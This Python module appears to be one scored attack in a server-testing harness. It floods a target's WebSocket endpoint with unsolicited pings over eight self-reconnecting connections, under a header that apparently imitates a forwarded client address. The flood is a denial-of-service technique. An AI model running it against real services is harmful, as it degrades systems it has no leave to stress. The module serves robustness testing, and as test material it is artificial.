"""Pings over a WebSocket, as many as eight connections can send: a library would answer every one of them."""

import asyncio

import aiohttp
from tools.attack.beside import beside
from tools.attack.house import HEADER, House, Outcome

POINTS = (11,)


async def attack(house: House) -> Outcome:
    sent = 0

    async def stranger(target: House, session: aiohttp.ClientSession) -> None:
        nonlocal sent
        async with session.ws_connect(f"{target.url}/ws", autoping=False) as socket:
            await socket.send_json({"type": "hello"})
            while not socket.closed:
                await socket.ping(b"x" * 100)
                sent += 1
                if sent % 100 == 0:
                    await asyncio.sleep(0)

    async def again(target: House, session: aiohttp.ClientSession) -> None:
        while True:
            try:
                await stranger(target, session)
            except (aiohttp.ClientError, ConnectionError):
                await asyncio.sleep(0.05)

    async def flood(target: House) -> None:
        async with aiohttp.ClientSession(headers={HEADER: "203.0.113.9"}) as session:
            await asyncio.gather(*(again(target, session) for _ in range(8)))

    outcome = await beside(house, "pings count like messages", flood)
    return outcome._replace(figures=f"{sent} pings sent; {outcome.figures}")
